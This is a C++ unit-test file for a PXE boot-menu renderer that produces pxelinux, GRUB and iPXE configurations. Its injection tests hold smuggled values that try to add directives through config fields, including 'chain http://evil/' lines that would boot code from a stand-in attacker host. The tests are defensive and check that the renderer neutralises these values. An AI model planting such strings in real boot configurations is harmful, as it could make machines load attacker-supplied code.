#include "boot/render.hpp"

#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <sstream>
#include <string>
#include <vector>

#include "boot/render_support.hpp"

namespace pxed::boot {
namespace {

using namespace std::chrono_literals;
using Kind = BootEntry::Kind;

// ---- golden files: tests/unit/data/boot/<case>.<loader>.golden ----
// PXED_UPDATE_GOLDEN=1 build/tests/pxed_unit_tests --gtest_filter='Render*'
// rewrites them; review the diff before committing.

std::filesystem::path golden_path(const std::string& name) {
  // PXED_TEST_DATA is tests/data; the unit tests' data lives beside them.
  return std::filesystem::path(PXED_TEST_DATA).parent_path() / "unit" / "data" / "boot" / (name + ".golden");
}

void expect_golden(const std::string& name, const std::string& actual) {
  auto path = golden_path(name);
  if (const char* update = std::getenv("PXED_UPDATE_GOLDEN"); update != nullptr && std::string(update) == "1") {
    std::filesystem::create_directories(path.parent_path());
    std::ofstream(path, std::ios::binary) << actual;
    return;
  }
  std::ifstream in(path, std::ios::binary);
  ASSERT_TRUE(in) << "missing golden " << path << " (PXED_UPDATE_GOLDEN=1 writes it)";
  std::string expected((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_EQ(expected, actual) << "differs from " << path << " (PXED_UPDATE_GOLDEN=1 rewrites it)";
}

void expect_goldens(const std::string& name, const RenderPlan& plan) {
  expect_golden(name + ".pxelinux", render_pxelinux(plan));
  expect_golden(name + ".grub", render_grub(plan));
  expect_golden(name + ".ipxe", render_ipxe(plan));
}

BootEntry centos7() {
  BootEntry e;
  e.kind = Kind::linux;
  e.name = "centos7-ks";
  e.label = "CentOS 7 kickstart install";
  e.kernel = "/centos7/images/pxeboot/vmlinuz";
  e.initrd = {"/centos7/images/pxeboot/initrd.img"};
  e.append = "inst.repo=http://10.77.0.1/centos7 ip=dhcp inst.ks=http://10.77.0.1/ks?mac=52:54:00:12:34:56";
  return e;
}

BootEntry local() {
  BootEntry e;
  e.kind = Kind::local;
  e.name = "local";
  e.label = "Boot from disk";
  return e;
}

BootEntry chain(std::string name, std::string label, std::string file) {
  BootEntry e;
  e.kind = Kind::chain;
  e.name = std::move(name);
  e.label = std::move(label);
  e.chain = std::move(file);
  return e;
}

RenderPlan plan_of(std::vector<BootEntry> entries, bool bios = true) {
  RenderPlan p;
  p.entries = std::move(entries);
  p.comments = {"machine db-03 (pxed.toml:19) -> profile centos7-ks"};
  p.title = "pxed: db-03";
  p.bios = bios;
  p.server = "10.77.0.1";
  return p;
}

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> out;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) out.push_back(line);
  return out;
}

// Lines whose first word (after indentation) is `word`.
int directives(const std::string& text, const std::string& word) {
  int n = 0;
  for (const auto& line : lines_of(text)) {
    auto first = line.find_first_not_of(' ');
    if (first == std::string::npos) continue;
    auto rest = line.substr(first);
    if (rest == word || rest.starts_with(word + " ")) ++n;
  }
  return n;
}

bool has_line(const std::string& text, const std::string& wanted) {
  for (const auto& line : lines_of(text)) {
    if (line == wanted) return true;
  }
  return false;
}

TEST(RenderGolden, SingleLinuxEntry) { expect_goldens("single_linux", plan_of({centos7()})); }

// A kernel named by our own HTTP URL (an image's recipe) is fetched by GRUB
// from the same tree over TFTP: Debian's signed GRUB has no http module.
TEST(RenderGrub, OurOwnUrlsAreTheTreeOverTftp) {
  BootEntry e;
  e.kind = Kind::linux;
  e.name = "memtest";
  e.kernel = "http://10.77.0.1/iso/mt/memtest86%2B.bin";
  e.initrd = {"http://10.77.0.1/iso/mt/initrd"};
  e.append = "url=http://10.77.0.1/iso/mt.iso";
  auto plan = plan_of({e});
  plan.http_base = "http://10.77.0.1";
  const auto grub = render_grub(plan);
  EXPECT_NE(grub.find("linux (tftp,10.77.0.1)/iso/mt/memtest86+.bin url=http://10.77.0.1/iso/mt.iso\n"),
            std::string::npos) << grub;
  EXPECT_NE(grub.find("initrd (tftp,10.77.0.1)/iso/mt/initrd\n"), std::string::npos) << grub;
  // Another server's URL stays HTTP.
  plan.entries[0].kernel = "http://10.77.0.9/vmlinuz";
  EXPECT_NE(render_grub(plan).find("linux (http,10.77.0.9)/vmlinuz"), std::string::npos);
}

// An image only iPXE boots (sanboot of its URL), in a menu with a kernel and
// the disk: iPXE boots it; pxelinux and GRUB list it with the reason.
TEST(RenderGolden, SanbootImageInAMenu) {
  BootEntry image;
  image.kind = Kind::sanboot;
  image.name = "iso:freebsd-14";
  image.label = "FreeBSD 14.0";
  image.chain = "http://10.77.0.1/iso/freebsd-14.iso";
  auto plan = plan_of({centos7(), image, local()});
  plan.default_entry = 1;
  expect_goldens("menu_sanboot", plan);
  const auto ipxe = render_ipxe(plan);
  EXPECT_NE(ipxe.find("sanboot --no-describe http://10.77.0.1/iso/freebsd-14.iso\n"), std::string::npos) << ipxe;
  const auto pxelinux = render_pxelinux(plan);
  EXPECT_NE(pxelinux.find("FreeBSD 14.0 (pxed: cannot boot here)"), std::string::npos) << pxelinux;
  EXPECT_NE(pxelinux.find(render_detail::kSanbootOnly), std::string::npos) << pxelinux;
  EXPECT_NE(render_grub(plan).find(render_detail::kSanbootOnly), std::string::npos);
}

// A small image with memdisk: pxelinux on BIOS loads it whole with memdisk,
// iPXE still sanboots it; syslinux.efi and GRUB cannot.
BootEntry small_image() {
  BootEntry e;
  e.kind = Kind::sanboot;
  e.name = "iso:ipxe";
  e.label = "ipxe";
  e.chain = "http://10.77.0.1/iso/ipxe.iso";
  e.memdisk = "/memdisk";
  return e;
}

TEST(RenderGolden, SmallImageWithMemdiskBios) {
  auto plan = plan_of({small_image(), local()});
  expect_goldens("memdisk_bios", plan);
  const auto pxelinux = render_pxelinux(plan);
  EXPECT_TRUE(has_line(pxelinux, "  LINUX ::memdisk")) << pxelinux;
  EXPECT_TRUE(has_line(pxelinux, "  INITRD http://10.77.0.1/iso/ipxe.iso")) << pxelinux;
  EXPECT_TRUE(has_line(pxelinux, "  APPEND iso raw")) << pxelinux;
  EXPECT_EQ(pxelinux.find("cannot boot here"), std::string::npos) << pxelinux;
  EXPECT_TRUE(has_line(render_ipxe(plan), "sanboot --no-describe http://10.77.0.1/iso/ipxe.iso"));
  EXPECT_NE(render_grub(plan).find(render_detail::kSanbootOnly), std::string::npos);
}

TEST(RenderGolden, SmallImageWithMemdiskUefi) {
  auto plan = plan_of({small_image(), local()}, /*bios=*/false);
  expect_goldens("memdisk_uefi", plan);
  const auto syslinux = render_pxelinux(plan);
  EXPECT_EQ(directives(syslinux, "LINUX"), 0) << syslinux;
  EXPECT_NE(syslinux.find(render_detail::kMemdiskBiosOnly), std::string::npos) << syslinux;
  EXPECT_NE(syslinux.find("ipxe (pxed: cannot boot here)"), std::string::npos) << syslinux;
}

// A Windows image through wimboot: iPXE loads each file under the name
// wimboot looks for (--name for UEFI, the command line for BIOS); the others
// list it with the reason.
TEST(RenderGolden, WimbootEntry) {
  BootEntry e;
  e.kind = Kind::wimboot;
  e.name = "iso:win10";
  e.label = "Microsoft Windows 10 (Windows PE)";
  e.kernel = "http://10.77.0.1/wimboot";
  e.initrd = {"http://10.77.0.1/iso/win10/bootmgr", "http://10.77.0.1/iso/win10/boot/bcd",
              "http://10.77.0.1/iso/win10/boot/boot.sdi", "http://10.77.0.1/iso/win10/sources/boot.wim"};
  e.initrd_names = {"bootmgr", "BCD", "boot.sdi", "boot.wim"};
  auto plan = plan_of({e, local()});
  expect_goldens("wimboot", plan);
  const auto ipxe = render_ipxe(plan);
  EXPECT_TRUE(has_line(ipxe, "kernel http://10.77.0.1/wimboot")) << ipxe;
  EXPECT_TRUE(has_line(ipxe, "initrd --name BCD http://10.77.0.1/iso/win10/boot/bcd BCD")) << ipxe;
  EXPECT_TRUE(has_line(ipxe, "initrd --name boot.wim http://10.77.0.1/iso/win10/sources/boot.wim boot.wim")) << ipxe;
  EXPECT_NE(render_pxelinux(plan).find(render_detail::kWimbootOnly), std::string::npos);
  EXPECT_NE(render_grub(plan).find(render_detail::kWimbootOnly), std::string::npos);
  // Names and files that do not pair up are not booted half.
  plan.entries[0].initrd_names.pop_back();
  EXPECT_NE(render_ipxe(plan).find("no wimboot or no Windows boot files"), std::string::npos);
}

TEST(RenderGolden, MenuOfLinuxAndLocalWithTimeout) {
  auto plan = plan_of({centos7(), local()});
  plan.default_entry = 1;
  plan.timeout = 10s;
  expect_goldens("menu_linux_local", plan);
}

TEST(RenderGolden, LocalOnlyBios) { expect_goldens("local_bios", plan_of({local()}, /*bios=*/true)); }

TEST(RenderGolden, LocalOnlyUefi) { expect_goldens("local_uefi", plan_of({local()}, /*bios=*/false)); }

// A tree path and a URL to another network boot program, built for the firmware.
std::vector<BootEntry> chains(bool bios) {
  return {chain("wds", "Windows Deployment Services", bios ? "/boot/x64/wdsnbp.com" : "/boot/x64/wdsmgfw.efi"),
          chain("netboot.xyz", "netboot.xyz",
                bios ? "http://boot.example.net/ipxe/netboot.xyz.kpxe" : "http://boot.example.net/ipxe/netboot.xyz.efi")};
}

TEST(RenderGolden, ChainBios) { expect_goldens("chain_bios", plan_of(chains(true), /*bios=*/true)); }

TEST(RenderGolden, ChainUefi) { expect_goldens("chain_uefi", plan_of(chains(false), /*bios=*/false)); }

TEST(RenderGolden, UrlKernel) {
  BootEntry e;
  e.name = "debian12";
  e.label = "Debian 12 installer";
  e.kernel = "http://10.77.0.1:8080/debian/linux";
  e.initrd = {"http://10.77.0.1:8080/debian/initrd.gz"};
  e.append = "auto=true priority=critical url=http://10.77.0.1/preseed/db-03.cfg";
  expect_goldens("url_kernel", plan_of({e}));
}

TEST(RenderGolden, HttpsKernelIsExplainedWhereTheLoaderHasNoTls) {
  BootEntry e;
  e.name = "fedora";
  e.label = "Fedora";
  e.kernel = "https://mirror.example.org/fedora/vmlinuz";
  e.initrd = {"https://mirror.example.org/fedora/initrd.img"};
  e.append = "inst.stage2=https://mirror.example.org/fedora";
  expect_goldens("https_kernel", plan_of({e, local()}));
}

TEST(RenderGolden, TreePathsWithSpacesAndCommas) {
  BootEntry e;
  e.name = "centos7 iso";
  e.label = "CentOS 7 (from the ISO)";
  e.kernel = "/iso/CentOS 7 x86_64/images/pxeboot/vmlinuz";
  e.initrd = {"/iso/CentOS 7 x86_64/images/pxeboot/initrd.img", "/extra/a,b.cpio"};
  e.append = "inst.repo=http://10.77.0.1/iso/CentOS%207%20x86_64";
  expect_goldens("spaces", plan_of({e}));
}

// ---- injection: text from the plan never starts a directive of its own ----

TEST(RenderInjection, NewlineInAppendStaysInThePxelinuxAppendLine) {
  auto e = centos7();
  e.append = "quiet\nLOCALBOOT 0\r\nMENU HIDE";
  auto out = render_pxelinux(plan_of({e}));
  EXPECT_EQ(directives(out, "LOCALBOOT"), 0) << out;
  EXPECT_EQ(directives(out, "MENU"), 0) << out;
  EXPECT_TRUE(has_line(out, "  APPEND quiet LOCALBOOT 0  MENU HIDE")) << out;
}

TEST(RenderInjection, NewlinesInLabelsTitlesAndCommentsStayOnTheirLine) {
  auto e = centos7();
  e.label = "Install\nLOCALBOOT 0";
  auto l = local();
  auto plan = plan_of({e, l});
  plan.title = "Title\nUI vesamenu.c32";
  plan.comments = {"comment\nDEFAULT evil"};
  auto out = render_pxelinux(plan);
  EXPECT_EQ(directives(out, "LOCALBOOT"), 1) << out;  // the local entry's own
  EXPECT_EQ(directives(out, "UI"), 1) << out;
  EXPECT_EQ(directives(out, "DEFAULT"), 1) << out;
  EXPECT_TRUE(has_line(out, "  MENU LABEL Install LOCALBOOT 0")) << out;
}

TEST(RenderInjection, GrubQuotesEveryWordItDidNotWrite) {
  auto e = centos7();
  e.label = "Bob's\n}\nmenuentry evil {";
  e.append = "a;reboot $root `x` #c 'q' if\nexit";
  auto out = render_grub(plan_of({e}));
  EXPECT_EQ(directives(out, "menuentry"), 1) << out;
  EXPECT_EQ(directives(out, "exit"), 0) << out;
  EXPECT_EQ(directives(out, "}"), 1) << out;
  EXPECT_TRUE(has_line(out, "menuentry 'Bob'\\''s } menuentry evil {' --id centos7-ks {")) << out;
  EXPECT_NE(out.find(" 'a;reboot' '$root' '`x`' '#c' ''\\''q'\\''' 'if' exit\n"), std::string::npos) << out;
}

TEST(RenderInjection, IpxeRefusesArgumentsItWouldReadAsSyntax) {
  for (std::string append : {"quiet ; reboot", "a || chain http://evil/", "#comment", "x=${net0/mac}", "&&"}) {
    auto e = centos7();
    e.append = append;
    auto out = render_ipxe(plan_of({e}));
    EXPECT_EQ(directives(out, "kernel"), 0) << append << "\n" << out;
    EXPECT_EQ(directives(out, "reboot"), 0) << out;
    EXPECT_EQ(directives(out, "chain"), 0) << out;
    EXPECT_EQ(directives(out, "echo"), 1) << out;
    EXPECT_TRUE(has_line(out, "exit 1")) << out;
  }
}

TEST(RenderInjection, IpxeKeepsHarmlessDollarsAndHashes) {
  auto e = centos7();
  e.append = "a#b pass=$1x ${ c}";  // no leading '#', "${" without a '}' after it
  auto out = render_ipxe(plan_of({e}));
  EXPECT_NE(out.find(" a#b pass=$1x ${ c}\n"), std::string::npos) << out;
}

TEST(RenderInjection, IpxeNewlineInAppendCannotAddACommand) {
  auto e = centos7();
  e.append = "quiet\nchain http://evil/x";
  auto out = render_ipxe(plan_of({e}));
  EXPECT_EQ(directives(out, "chain"), 0) << out;
  EXPECT_NE(out.find("quiet chain http://evil/x\n"), std::string::npos) << out;
}

TEST(RenderInjection, IpxeLineEndingInBackslashIsNotJoinedWithTheNext) {
  auto e = centos7();
  e.append = "quiet\\";
  auto plan = plan_of({e});
  plan.comments = {"ends in a backslash\\"};
  auto out = render_ipxe(plan);
  for (const auto& line : lines_of(out)) EXPECT_FALSE(line.ends_with('\\')) << line;
  EXPECT_NE(out.find(" quiet\\ \n"), std::string::npos) << out;
}

TEST(RenderInjection, IpxeMenuTextShowsSyntaxWordsHarmlessly) {
  auto a = centos7();
  a.label = "Install #2 && ${reboot}";
  auto plan = plan_of({a, local()});
  plan.title = "-x ; menu";
  auto out = render_ipxe(plan);
  EXPECT_TRUE(has_line(out, "menu -- -x (;) menu")) << out;
  EXPECT_TRUE(has_line(out, "item centos7-ks Install (#2) (&&) $ {reboot}")) << out;
}

// ---- labels ----

TEST(RenderLabels, NamesBecomeLabelsEveryLoaderAccepts) {
  std::vector<BootEntry> entries(7);
  entries[0].name = "db 03";
  entries[1].name = "CentOS 7 (install)";
  entries[2].name = "";
  entries[3].name = "--x..";
  entries[4].name = "a b";
  entries[5].name = "A-B";
  entries[6].name = "sub>menu";
  EXPECT_EQ(render_detail::entry_ids(entries),
            (std::vector<std::string>{"db-03", "CentOS-7-install", "entry-3", "x..", "a-b", "A-B-2", "sub-menu"}));
}

TEST(RenderLabels, PxelinuxLabelsHaveNoSpaces) {
  auto a = centos7();
  a.name = "CentOS 7 kickstart";
  auto b = local();
  b.name = "boot from disk";
  auto plan = plan_of({a, b});
  plan.default_entry = 1;
  auto out = render_pxelinux(plan);
  EXPECT_TRUE(has_line(out, "LABEL CentOS-7-kickstart")) << out;
  EXPECT_TRUE(has_line(out, "LABEL boot-from-disk")) << out;
  EXPECT_TRUE(has_line(out, "DEFAULT boot-from-disk")) << out;
  EXPECT_TRUE(has_line(render_grub(plan), "set default=boot-from-disk"));
  EXPECT_NE(render_ipxe(plan).find("choose --default boot-from-disk "), std::string::npos);
}

TEST(RenderLabels, OutOfRangeDefaultFallsBackToTheFirstEntry) {
  auto plan = plan_of({centos7(), local()});
  plan.default_entry = 7;
  EXPECT_TRUE(has_line(render_pxelinux(plan), "DEFAULT centos7-ks"));
}

// ---- timeouts: tenths of a second, seconds, milliseconds ----

TEST(RenderTimeout, EachLoaderGetsItsOwnUnit) {
  auto plan = plan_of({centos7(), local()});
  plan.timeout = 7s;
  EXPECT_TRUE(has_line(render_pxelinux(plan), "TIMEOUT 70"));
  EXPECT_TRUE(has_line(render_grub(plan), "set timeout=7"));
  EXPECT_NE(render_ipxe(plan).find(" --timeout 7000 target"), std::string::npos);
}

TEST(RenderTimeout, ZeroWaitsForAChoiceInEveryLoader) {
  auto plan = plan_of({centos7(), local()});
  plan.timeout = 0s;
  EXPECT_TRUE(has_line(render_pxelinux(plan), "TIMEOUT 0"));
  EXPECT_TRUE(has_line(render_grub(plan), "set timeout=-1"));  // GRUB's 0 boots at once
  EXPECT_EQ(render_ipxe(plan).find("--timeout"), std::string::npos);
}

TEST(RenderTimeout, OneEntryBootsAtOnce) {
  auto plan = plan_of({centos7()});
  plan.timeout = 5s;
  EXPECT_TRUE(has_line(render_grub(plan), "set timeout=0"));
  EXPECT_EQ(render_pxelinux(plan).find("TIMEOUT"), std::string::npos);
  EXPECT_EQ(render_ipxe(plan).find("choose"), std::string::npos);
}

TEST(RenderTimeout, HugeAndNegativeTimeoutsAreBounded) {
  auto plan = plan_of({centos7(), local()});
  plan.timeout = std::chrono::seconds{10LL * 365 * 24 * 3600};
  EXPECT_TRUE(has_line(render_pxelinux(plan), "TIMEOUT 864000"));
  EXPECT_TRUE(has_line(render_grub(plan), "set timeout=86400"));
  EXPECT_NE(render_ipxe(plan).find(" --timeout 86400000 target"), std::string::npos);
  plan.timeout = -5s;
  EXPECT_TRUE(has_line(render_grub(plan), "set timeout=-1"));
}

// ---- paths, URLs and per-loader choices ----

TEST(RenderPaths, PxelinuxTreePathsStartAtTheTftpRoot) {
  auto e = centos7();
  e.kernel = "centos7/vmlinuz";  // with or without the leading '/'
  auto out = render_pxelinux(plan_of({e}));
  EXPECT_TRUE(has_line(out, "  LINUX ::centos7/vmlinuz")) << out;
  EXPECT_TRUE(has_line(out, "  INITRD ::centos7/images/pxeboot/initrd.img")) << out;
}

TEST(RenderPaths, GrubUsesTheServersTftpDeviceOrRoot) {
  auto plan = plan_of({centos7()});
  EXPECT_NE(render_grub(plan).find("linux (tftp,10.77.0.1)/centos7/images/pxeboot/vmlinuz "), std::string::npos);
  plan.server.clear();
  EXPECT_NE(render_grub(plan).find("linux /centos7/images/pxeboot/vmlinuz "), std::string::npos);
}

TEST(RenderPaths, GrubRefusesUrlsItCannotFetch) {
  for (std::string kernel : {"https://h/vmlinuz", "ftp://h/vmlinuz", "http://user@h/vmlinuz"}) {
    auto e = centos7();
    e.kernel = kernel;
    auto out = render_grub(plan_of({e}));
    EXPECT_EQ(directives(out, "linux"), 0) << out;
    EXPECT_EQ(directives(out, "echo"), 1) << out;
    EXPECT_EQ(directives(out, "sleep"), 1) << out;
  }
}

TEST(RenderPaths, GrubKeepsThePortAndDropsTheFragment) {
  auto e = centos7();
  e.kernel = "http://[fd00::1]:8080/k/vmlinuz?v=1#x";
  EXPECT_NE(render_grub(plan_of({e})).find("linux '(http,[fd00::1]:8080)/k/vmlinuz?v=1' "), std::string::npos);
}

TEST(RenderPaths, GrubChainsWithChainloaderOnUefiAndPxechainloaderOnBios) {
  auto plan = plan_of({chain("ipxe", "iPXE", "/ipxe.efi")}, /*bios=*/false);
  EXPECT_TRUE(has_line(render_grub(plan), "  chainloader (tftp,10.77.0.1)/ipxe.efi"));
  plan.bios = true;
  EXPECT_TRUE(has_line(render_grub(plan), "  pxechainloader (tftp,10.77.0.1)/ipxe.efi"));
}

TEST(RenderPaths, IpxeNamesInitrdsUniquelyAndPassesThemToTheKernel) {
  auto e = centos7();
  e.kernel = "/a/initrd.img";
  e.initrd = {"/b/initrd.img", "http://h/c/initrd.img?x=1", "/d/"};
  e.append = "quiet";
  auto out = render_ipxe(plan_of({e}));
  EXPECT_TRUE(has_line(out, "kernel /a/initrd.img initrd=initrd.img-2 initrd=initrd.img-3 initrd=initrd quiet")) << out;
  EXPECT_TRUE(has_line(out, "initrd --name initrd.img-2 /b/initrd.img")) << out;
  EXPECT_TRUE(has_line(out, "initrd --name initrd.img-3 http://h/c/initrd.img?x=1")) << out;
  EXPECT_TRUE(has_line(out, "initrd --name initrd /d/")) << out;
}

TEST(RenderPaths, IpxeEncodesWhatAUriCannotCarry) {
  auto e = centos7();
  e.kernel = "/iso/a b/100%/x#y?z{w}";
  e.initrd = {"http://h/${x}/i img"};
  auto out = render_ipxe(plan_of({e}));
  EXPECT_NE(out.find("kernel /iso/a%20b/100%25/x%23y%3Fz%7Bw%7D "), std::string::npos) << out;
  EXPECT_NE(out.find(" http://h/$%7Bx%7D/i%20img\n"), std::string::npos) << out;
}

TEST(RenderPaths, SyslinuxEfiIsUefiWhateverThePlanSays) {
  auto plan = plan_of({chains(false)[0]}, /*bios=*/true);
  auto efi = render(Loader::syslinux_efi, plan);
  EXPECT_EQ(directives(efi, "SAY"), 1) << efi;
  EXPECT_NE(efi.find("for syslinux.efi"), std::string::npos);
  plan.bios = false;
  auto bios = render(Loader::pxelinux, plan);
  EXPECT_EQ(directives(bios, "SAY"), 0) << bios;
}

TEST(RenderPaths, NothingToBootSaysSo) {
  RenderPlan plan;
  EXPECT_TRUE(has_line(render_pxelinux(plan), "SAY pxed: nothing to boot for this machine"));
  EXPECT_TRUE(has_line(render_grub(plan), "echo 'pxed: nothing to boot for this machine'"));
  EXPECT_TRUE(has_line(render_ipxe(plan), "echo pxed: nothing to boot for this machine"));
}

TEST(RenderPaths, LoaderNames) {
  EXPECT_EQ(to_string(Loader::pxelinux), "pxelinux");
  EXPECT_EQ(to_string(Loader::syslinux_efi), "syslinux-efi");
  EXPECT_EQ(to_string(Loader::grub), "grub");
  EXPECT_EQ(to_string(Loader::ipxe), "ipxe");
  EXPECT_EQ(render(Loader::grub, plan_of({local()})), render_grub(plan_of({local()})));
  EXPECT_EQ(render(Loader::ipxe, plan_of({local()})), render_ipxe(plan_of({local()})));
}

}  // namespace
}  // namespace pxed::boot
